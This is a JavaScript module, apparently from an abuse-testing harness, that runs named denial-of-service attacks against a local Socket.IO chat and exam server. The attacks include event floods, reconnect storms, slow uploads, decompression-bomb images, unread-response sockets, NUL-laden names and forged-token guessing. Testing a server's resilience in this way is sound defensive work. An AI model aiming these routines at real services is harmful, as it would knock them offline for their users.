/**
 * What one person can try against everybody else, each as a function. Another attack is another function in {@link ATTACKS}.
 *
 * Each gets {@link Field}, goes on until its deadline, and ends by itself. It keeps to no limits of its own: what is refused is
 * part of it.
 */
import http from 'node:http';
import net from 'node:net';
import { randomUUID } from 'node:crypto';

import { io } from 'socket.io-client';
import WebSocket from 'ws';

import { mint } from './harness.mjs';
import { gif, png } from './pictures.mjs';

/**
 * @typedef {{ port: number, secret: string, roomId: string, victimId: string, groupId: string, examId: string, seconds: number }} Target
 * @typedef {ReturnType<typeof field>} Field
 */

/** Where an attack takes place. @param {Target} target */
export function field(target) {
  const me = { userId: randomUUID(), name: 'Mallory', role: 'STUDENT' };
  const deadline = Date.now() + target.seconds * 1_000;
  const open = () => Date.now() < deadline;
  const token = (claims = {}) => mint(target.secret, { ...me, ...claims });
  /** Codes of refusals, and how often; what was done is `ok`. */
  const outcomes = /** @type {Record<string, number>} */ ({});
  const count = (/** @type {string} */ outcome) => { outcomes[outcome] = (outcomes[outcome] ?? 0) + 1; };
  /** Events that were taken, for honest users to send the same. */
  const taken = /** @type {[string, unknown][]} */ ([]);

  /** A socket of this one person's. @returns {Promise<import('socket.io-client').Socket>} */
  const socket = (claims = {}, options = {}) => new Promise((resolve, reject) => {
    const made = io(`http://127.0.0.1:${target.port}`, { auth: { token: token(claims) }, transports: ['websocket'], forceNew: true, reconnection: false, timeout: 5_000, ...options });
    made.once('connect', () => resolve(made));
    made.once('connect_error', (error) => {
      made.close();
      reject(error);
    });
    // A connection that ends before it is answered.
    made.io.on('close', () => reject(new Error('closed')));
    made.once('disconnect', (reason) => count(`disconnected: ${reason}`));
  });
  /** Sockets that were let in. */
  const sockets = async (/** @type {number} */ wanted) => {
    const all = await Promise.allSettled(Array.from({ length: wanted }, () => socket()));
    return all.flatMap((one) => (one.status === 'fulfilled' ? [one.value] : []));
  };
  /** @param {import('socket.io-client').Socket} on @param {string} event @param {unknown} payload @returns {Promise<any>} */
  const ask = async (on, event, payload) => {
    const reply = await on.timeout(5_000).emitWithAck(event, payload).catch(() => ({ ok: false, error: { code: 'no answer' } }));
    count(reply?.ok ? 'ok' : reply?.error?.code ?? 'unreadable');
    if (reply?.ok) taken.push([event, payload]);
    return reply;
  };
  const join = (/** @type {import('socket.io-client').Socket} */ on) => ask(on, 'join-room', { roomId: target.roomId });
  /** So many at a time, again and again. @param {number} width @param {(n: number) => Promise<unknown>} one */
  const flood = async (width, one) => {
    let n = 0;
    const worker = async () => {
      while (open()) {
        n += 1;
        await one(n);
        // Whatever is refused at once must leave other things of this process their turn.
        await new Promise((resolve) => setImmediate(resolve));
      }
    };
    await Promise.all(Array.from({ length: width }, worker));
  };
  /** A request of any shape. @param {string} method @param {string} path @param {{ headers?: Record<string, string>, body?: Buffer | string | undefined }} [more] */
  const request = (method, path, { headers = {}, body } = {}) => new Promise((resolve) => {
    const length = body === undefined ? {} : { 'content-length': String(Buffer.byteLength(body)) };
    const sent = http.request({ port: target.port, host: '127.0.0.1', method, path, headers: { ...length, ...headers }, timeout: 5_000 }, (response) => {
      const chunks = /** @type {Buffer[]} */ ([]);
      response.on('data', (chunk) => chunks.push(chunk));
      response.on('error', () => resolve({ status: 0, text: '' }));
      response.on('end', () => {
        count(String(response.statusCode));
        resolve({ status: response.statusCode, text: Buffer.concat(chunks).toString() });
      });
    });
    sent.on('timeout', () => sent.destroy());
    sent.on('error', () => {
      count('connection ended');
      resolve({ status: 0, text: '' });
    });
    sent.end(body);
  });
  const bearer = () => ({ authorization: `Bearer ${token()}` });
  return { ...target, me, deadline, open, token, outcomes, taken, count, socket, sockets, ask, join, flood, request, bearer };
}

/** A polling session that is not signed in. @param {Field} at @returns {Promise<string | null>} its id */
async function session(at) {
  const { text } = /** @type {{ text: string }} */ (await at.request('GET', '/socket.io/?EIO=4&transport=polling'));
  return /"sid":"([^"]+)"/.exec(text)?.[1] ?? null;
}

/** Payloads by polling, without ever signing in. @param {Field} at @param {string} packet */
async function payloads(at, packet) {
  const body = Buffer.from(Array.from({ length: Math.floor(950_000 / (packet.length + 1)) }, () => packet).join('\x1e'));
  await at.flood(4, async () => {
    const sid = await session(at);
    if (sid) await at.request('POST', `/socket.io/?EIO=4&transport=polling&sid=${sid}`, { body, headers: { 'content-type': 'text/plain' } });
  });
}

const words = () => Array.from({ length: 20 }, (_, n) => `kata${n}`).join(' ');

/** @type {Record<string, (at: Field) => Promise<void>>} */
export const ATTACKS = {
  'asks for threads, 64 at once': async (at) => {
    const [one] = await at.sockets(1);
    if (!one) return;
    await at.join(one);
    const messageId = (await at.ask(one, 'send-message', { roomId: at.roomId, message: 'a thread' })).message?.id;
    await at.flood(64, () => at.ask(one, 'message-thread', { messageId }));
  },
  'searches for twenty words, 64 at once': async (at) => {
    const [one] = await at.sockets(1);
    if (!one) return;
    await at.join(one);
    await at.flood(64, () => at.ask(one, 'message-search', { roomId: at.roomId, query: words() }));
  },
  'lists rooms and groups that are not there': async (at) => {
    const [one] = await at.sockets(1);
    if (!one) return;
    await at.flood(64, (n) => (n % 2 ? at.ask(one, 'study-group-list', { query: `zzqx${n}` }) : at.ask(one, 'room-list', {})));
  },
  'edits and reacts by three sockets': async (at) => {
    const all = await at.sockets(3);
    for (const one of all) await at.join(one);
    const [first] = all;
    if (!first) return;
    const messageId = (await at.ask(first, 'send-message', { roomId: at.roomId, message: 'to be edited' })).message?.id;
    await at.flood(48, (n) => {
      const one = all[n % all.length] ?? first;
      return n % 2
        ? at.ask(one, 'message-edit', { messageId, message: `${n} ${'x'.repeat(8_000)}` })
        : at.ask(one, 'message-react', { messageId, emoji: '👍', on: n % 4 === 0 });
    });
  },
  'toggles reactions by reconnecting': async (at) => {
    const [first] = await at.sockets(1);
    if (!first) return;
    await at.join(first);
    const messageId = (await at.ask(first, 'send-message', { roomId: at.roomId, message: 'a reaction' })).message?.id;
    await at.flood(8, async () => {
      const one = await at.socket().catch(() => null);
      if (!one) return;
      await Promise.all(Array.from({ length: 50 }, (_, n) => at.ask(one, 'message-react', { messageId, emoji: '🎉', on: n % 2 === 0 })));
      one.close();
    });
  },
  'sends by reconnecting': async (at) => {
    await at.flood(6, async () => {
      const one = await at.socket().catch(() => null);
      if (!one) return;
      await at.join(one);
      await Promise.all(Array.from({ length: 60 }, (_, n) => at.ask(one, 'send-message', { roomId: at.roomId, message: `flood ${n}` })));
      one.close();
    });
  },
  'types, without end': async (at) => {
    const all = await at.sockets(3);
    for (const one of all) await at.join(one);
    if (all.length === 0) return;
    await at.flood(60, (n) => at.ask(/** @type {any} */ (all[n % all.length]), 'typing-indicator', { roomId: at.roomId, isTyping: n % 2 === 0 }));
  },
  'changes the status, without end': async (at) => {
    const [one] = await at.sockets(1);
    if (!one) return;
    await at.join(one);
    await at.flood(32, (n) => at.ask(one, 'set-status', { status: n % 2 ? 'away' : 'online' }));
  },
  'refreshes the token, without end': async (at) => {
    const [one] = await at.sockets(1);
    if (!one) return;
    await at.flood(32, () => at.ask(one, 'auth-refresh', { token: at.token() }));
  },
  'joins an exam again and again': async (at) => {
    const all = await at.sockets(3);
    if (all.length === 0) return;
    await at.flood(12, (n) => at.ask(/** @type {any} */ (all[n % all.length]), 'join-exam', { examId: at.examId }));
  },
  'looks at boards of weeks that are over': async (at) => {
    const [one] = await at.sockets(1);
    if (!one) return;
    await at.flood(64, (n) => at.ask(one, 'leaderboard-request', { period: n % 2 ? 'monthly' : 'weekly', limit: 100, periodStart: `2026-0${1 + (n % 9)}-05T00:00:00Z` }));
  },
  'makes groups and rooms, and invites': async (at) => {
    const [one] = await at.sockets(1);
    if (!one) return;
    await at.flood(16, async (n) => {
      if (n % 3 === 0) return at.ask(one, 'join-room', { roomId: `room-${randomUUID()}` });
      const made = await at.ask(one, 'study-group-create', { name: `Group ${n}`, isPublic: true });
      const groupId = made.id;
      return groupId && at.ask(one, 'study-group-invite', { groupId, userId: at.victimId });
    });
  },
  'sends small events as fast as the network takes them': async (at) => {
    const all = Array.from({ length: 4 }, () => new WebSocket(`ws://127.0.0.1:${at.port}/socket.io/?EIO=4&transport=websocket`));
    await Promise.all(all.map((one) => new Promise((resolve) => {
      one.on('error', () => resolve(null));
      one.on('close', () => {
        at.count('closed');
        resolve(null);
      });
      one.on('open', () => one.send(`40${JSON.stringify({ token: at.token() })}`));
      one.on('message', (data) => {
        if (String(data).startsWith('40')) resolve(null);
        if (String(data) === '2') one.send('3');
      });
    })));
    while (at.open()) {
      for (const one of all) for (let n = 0; n < 500 && one.readyState === WebSocket.OPEN && one.bufferedAmount < 1_000_000; n += 1) {
        one.send('42["x"]');
        at.count('sent');
      }
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    for (const one of all) one.terminate();
  },
  'uploads slowly': async (at) => {
    const slow = Array.from({ length: 4 }, () => net.connect(at.port, '127.0.0.1'));
    for (const one of slow) {
      one.on('error', () => {});
      one.on('data', (data) => at.count(/^HTTP\/1\.1 (\d+)/.exec(String(data))?.[1] ?? 'unreadable'));
      one.on('close', () => at.count('closed'));
      one.write(`POST /api/files HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${at.token()}\r\ncontent-type: multipart/form-data; boundary=b\r\ncontent-length: 9000000\r\n\r\n--b\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n`);
    }
    await at.flood(1, async () => {
      for (const one of slow) if (one.writable) one.write('x');
      at.count('bytes');
      await new Promise((resolve) => setTimeout(resolve, 20));
    });
    for (const one of slow) one.destroy();
  },
  'uploads pictures that are large once they are unpacked': async (at) => {
    const bombs = [gif(9_755), png(5_000, 6_000, { depth: 16, colour: 6 })];
    const bodies = bombs.map((file) => Buffer.concat([Buffer.from('--b\r\ncontent-disposition: form-data; name="file"; filename="a"\r\ncontent-type: image/png\r\n\r\n'), file, Buffer.from('\r\n--b--\r\n')]));
    await at.flood(3, (n) => at.request('POST', '/api/files', { body: bodies[n % 2], headers: { ...at.bearer(), 'content-type': 'multipart/form-data; boundary=b' } }));
  },
  'asks by HTTP, without end': async (at) => {
    await at.flood(32, (n) => at.request('GET', n % 2 ? '/api/exams' : '/api/notifications/preferences', { headers: at.bearer() }));
  },
  'reads nothing of what it asks for': async (at) => {
    const all = Array.from({ length: 10 }, () => net.connect(at.port, '127.0.0.1'));
    for (const one of all) {
      one.on('error', () => {});
      one.on('close', () => at.count('closed'));
      one.write('GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n');
      one.write(frame(`40${JSON.stringify({ token: at.token() })}`));
      one.write(frame(`42${JSON.stringify(['join-room', { roomId: at.roomId }])}`));
      one.pause();
    }
    await at.flood(2, async () => {
      for (const one of all) if (one.writable) one.write(frame(`421${JSON.stringify(['message-history', { roomId: at.roomId, limit: 100 }])}`));
      await new Promise((resolve) => setTimeout(resolve, 20));
    });
    for (const one of all) one.destroy();
  },
  'has a picture of 200 kB, and a name with a NUL': async (at) => {
    await at.flood(4, async (n) => {
      const claims = n % 2 ? { avatar: `https://example.org/${'a'.repeat(200_000)}` } : { name: 'Mal\u0000lory' };
      const one = await at.socket({ userId: randomUUID(), ...claims }).catch((error) => {
        at.count(error.message);
        return null;
      });
      if (!one) return;
      await at.join(one);
      await at.ask(one, 'send-message', { roomId: at.roomId, message: 'look at me' });
      one.close();
    });
  },
  'guesses tokens': async (at) => {
    await at.flood(16, async () => {
      await at.socket({}, { auth: { token: `${at.token()}x` } }).catch((error) => at.count(error.message));
    });
  },
  'connects thousands of times in one payload': (at) => payloads(at, '40'),
  'sends payloads of a hundred thousand packets': (at) => payloads(at, '42["x"]'),
  'announces attachments and never ends them': async (at) => {
    await at.flood(20, () => new Promise((resolve) => {
      const one = new WebSocket(`ws://127.0.0.1:${at.port}/socket.io/?EIO=4&transport=websocket`);
      const done = () => {
        one.terminate();
        resolve(null);
      };
      one.on('error', done);
      one.on('close', () => {
        at.count('closed');
        done();
      });
      one.on('open', () => {
        one.send('4510-["x",{"_placeholder":true,"num":0}]');
        for (let n = 0; n < 9; n += 1) one.send(Buffer.alloc(100_000));
        at.count('sent');
        setTimeout(done, 500);
      });
    }));
  },
  'opens sessions and leaves them': async (at) => {
    await at.flood(16, async () => at.count(await session(at) ? 'opened' : 'not opened'));
  },
};

/** A masked text frame. @param {string} text */
function frame(text) {
  const data = Buffer.from(text);
  const mask = Buffer.from([1, 2, 3, 4]);
  const head = data.length < 126 ? Buffer.from([0x81, 0x80 | data.length]) : Buffer.from([0x81, 0x80 | 126, data.length >> 8, data.length & 255]);
  return Buffer.concat([head, mask, data.map((byte, n) => byte ^ (mask[n % 4] ?? 0))]);
}
